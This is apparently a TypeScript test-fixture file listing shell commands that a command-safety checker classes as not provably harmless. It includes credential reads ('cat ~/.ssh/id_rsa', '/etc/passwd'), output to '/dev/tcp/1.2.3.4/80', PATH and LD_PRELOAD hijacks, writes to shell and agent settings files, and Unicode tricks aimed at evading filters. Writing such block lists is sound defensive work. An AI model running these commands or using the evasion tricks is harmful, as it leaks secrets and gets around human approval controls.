import { lines } from "./lines.ts";

/** Not proven harmless, each for a reason of its own. */
export const DANGEROUS: readonly string[] = lines(String.raw`
  unknown-program
  ./ls
  /bin/ls
  ../ls
  bin/ls
  /proc/self/root/usr/bin/npx x
  /lib64/ld-linux-x86-64.so.2 /bin/ls
  LS
  ls; unknown
  ls && unknown
  ls || unknown
  ls | unknown
  ls & unknown
  unknown; ls
  ls --unknown
  ls -la --evil=x
  ls $x
  ls $HOME
  ls ~
  ls {a,b}
  ls $(pwd)
  ls "$(pwd)"
  cat $(echo x)
  cat "$x"
  cat ~/.ssh/id_rsa
  echo $x
  echo "$x"
  echo $((1+1))
  echo $'a' $x
  x=ls; $x
  x=1
  PATH=/tmp/x
  PATH=/tmp/x ls
  A=b ls
  GIT_PAGER=x git log
  CI=true git commit -m x
  LD_PRELOAD=x cat a
  export PATH=/tmp/x
  export A=b; ls
  declare A=b
  typeset A=b
  readonly A=b
  unset PATH
  alias ls=x
  alias
  set -- a
  shopt -s extglob
  trap ls EXIT
  ls() { unknown; }; ls
  function x { ls; }
  eval ls
  exec ls
  source x
  . ./x
  bash x.sh
  bash -c ls
  sh
  nohup ls
  setsid ls
  env A=b ls
  env -i ls
  env -S 'ls'
  env bash -c id
  env ./ls
  timeout $x ls
  nice -n $x ls
  command ./ls
  xargs rm
  xargs sh -c
  ls | xargs rm
  ls | xargs rg x
  ls | xargs sort
  find . | xargs -I{} sh -c '{}'
  ls > a
  ls >> a
  ls >| a
  ls &> a
  ls >& a
  ls 2> a
  ls <> a
  ls > $x
  echo a > ~/.zshrc
  cargo check > ~/.zshrc
  git log > a
  cat < $x
  cat <<< "$x"
  cat < /dev/tcp/1.2.3.4/80
  echo a > /dev/tcp/1.2.3.4/80
  cd $x
  cd -
  cd .claude && echo x > settings.json
  tee a
  ls | tee a
  ls | tee -a a
  touch a
  mkdir a
  cp a b
  mv a b
  ln -s a b
  rm a
  sort -o a b
  sort --output=a b
  sort --outp=a b
  sort --compress-program=sh a
  sort --compress-prog=sh a
  sort -T /tmp a
  sort *
  uniq a b
  find . -delete
  find . -exec ls {} \;
  find . -execdir ls {} +
  find . -ok ls {} \;
  find . -okdir ls {} \;
  find . '-exec' ls {} \;
  find . -e"xec" ls {} \;
  find . -fprint a
  find . -fprintf a %p
  find . -fprint0 a
  find . -fls a
  find . -files0-from x
  rg --pre sh x
  rg --pre=sh x
  rg --hostname-bin=sh x
  rg -z x
  rg --search-zip x
  rg --unknown x
  rg x *
  grep --unknown x
  sed 's/a/b/' x
  sed -i 's/a/b/' x
  sed -n 'w out' x
  sed -n '1e id' x
  sed -n '1,5p;w out' x
  sed -n 's/a/b/e' x
  sed -n '1r /etc/passwd' x
  sed --in-place=.bak s/a/b/ x
  sed -n -f script x
  sed -n --expr 1p x
  sed -ni 1p x
  sed 1d x
  awk 'BEGIN { system("id") }'
  awk '{ print > "out" }' x
  awk '{ print | "sh" }' x
  awk '{ "id" | getline; print }' x
  awk -f prog.awk x
  awk -v 'x=$(id)' '{print}' a
  tree -o out
  tree -R -H . -o x
  date -s '2020-01-01'
  date --set=x
  date 01010101
  hostname evil
  printf -v x y
  test -v 'a[$(id)]'
  [ -v x ]
  [[ $x -eq 1 ]]
  (( x = 1 ))
  let x=1
  less +x a
  xxd -r a b
  xxd a b
  file -C -m x
  git commit -m x
  git push
  git pull
  git fetch
  git add .
  git checkout main
  git reset --hard
  git clean -fd
  git stash
  git stash pop
  git rebase main
  git merge x
  git branch new
  git branch -D main
  git branch -m a b
  git branch --edit-description
  git tag v1
  git remote add x y
  git config user.name x
  git config --global core.pager x
  git -c core.pager=x log
  git -c alias.x='!id' x
  git -C /tmp/x status
  git --exec-path=/tmp/x status
  git --git-dir=/tmp/x status
  git --work-tree=/ status
  git -p log
  git --paginate log
  git diff --ext-diff
  git diff --output=a
  git diff --outp=a
  git log --output=a
  git show --textconv
  git log --show-signature
  git grep -O x
  git grep --open-files-in-pager=sh x
  git logout
  git log-evil
  git ls-remote
  git bisect run ls
  git archive --remote=x
  git status $(id)
`);

export const DANGEROUS_MORE: readonly string[] = lines(String.raw`
  ping x
  dig x
  host x
  nslookup x
  curl x
  wget x
  nc x 80
  ssh x
  scp a b:
  telnet x
  ftp x
  npm install
  npm i x
  npm ci
  npm install --global malicious-pkg
  npm exec x
  npm publish
  npm config set x y
  npm run build --script-shell=x
  npm --prefix /tmp/x test
  npx evil
  npx -y tsc
  npx -c 'ls'
  yarn add x
  yarn
  pnpm install
  pnpm dlx x
  bun add x
  pip install x
  pip3 install -r requirements.txt
  pip list --outdated
  python x.py
  python -c 'print(1)'
  python -m http.server
  python -m pip install x
  python
  python3 -
  node x.js
  node -e 1
  node -p 1
  perl -e 1
  ruby -e 1
  php -r 1
  lua x
  deno run x
  pytest -p evil
  pytest -c /tmp/x
  pytest --rootdir=/
  pytest -o python_files=x
  pytest $x
  mypy --config-file=x
  ruff check --config x
  black --config x .
  eslint --rulesdir x .
  eslint -c x .
  eslint --format ./x.js .
  prettier --plugin=x .
  jest --config x
  mocha -r ./x
  tsc --plugins x
  make SHELL=/tmp/x
  make CC=evil
  make -f /tmp/x
  make --eval='x'
  make -I x
  make test > out
  makeevil
  make-evil test
  cargo --config x build
  cargo build --config x
  cargo build --manifest-path /tmp/x
  cargo install x
  cargo add x
  cargo publish
  cargo +nightly build
  cargo evil
  cargo clippy --fix
  go run x.go
  go install x
  go get x
  go generate
  go test -exec x ./...
  go build -toolexec x
  mvn deploy
  mvn exec:exec
  mvn -f /tmp/x test
  mvn -Dexec.executable=x test
  gradle -I x build
  gradle publish
  gradle -b x build
  ./gradlew build
  docker run x
  docker exec x ls
  docker rm x
  docker build .
  docker -H tcp://x ps
  docker --config x ps
  docker compose up
  kubectl delete pod x
  kubectl apply -f x
  kubectl exec x -- ls
  kubectl --kubeconfig=x get pods
  kubectl get pods --kubeconfig x
  kubectl get -o go-template-file=x pods
  coverage run x.py
  pre-commit install
  tar xf a.tar
  tar --checkpoint-action=exec=ls -cf a b
  zip a b
  unzip a
  gzip a
  chmod +x a
  chown a b
  kill 1
  pkill x
  crontab -l
  at now
  systemctl restart x
  mount /dev/x /mnt
  shutdown now
  vim a
  nano a
  man ls
  tmux new
  screen
  script -c ls
  watch ls
  parallel ls
  strace ls
  gdb x
  ld.so ls
  open .
  xdg-open x
  osascript -e x
  gh pr list
  aws s3 ls
  terraform apply
  psql -c 'select 1'
  sqlite3 a.db
  jq 'import "x" as x; .' a
  yq -i x a
  coproc ls
  ls -la src; curl x
  echo a | bash
  echo 'ls' | sh
  while read x; do echo $x; done
  for x in a b; do cat $x; done
  case $x in a) ls;; esac
  select x in a; do ls; done
`);

/** What does not parse, or reads otherwise than it looks. */
export const DANGEROUS_ODD: readonly string[] = [
  "ls &&& ls",
  "ls &&",
  "ls |",
  "ls (",
  "echo 'a",
  'echo "a',
  "echo $(ls",
  "if ls",
  "ls;; ls",
  "}",
  ")",
  "echo $[ x='a[$(touch FLAG)]', x ]",
  "ls\u0000",
  "ls\u00a0-la",
  "ls \u200b",
  "ls\r",
  "ls\r\nls",
  "ls \u202e gnp.exe",
  "ls\u3000x",
  "ls \u001b[2K",
  "\ufeffls",
  "--",
  "echo ${x@P}",
  "echo ${x:=a}",
  "echo ${!x}",
  "echo ${x}",
  "cat <<EOF\n$x\nEOF",
  "ls\nunknown",
  "ls `pwd`",
  "cat <<EOF > a\nx\nEOF",
];
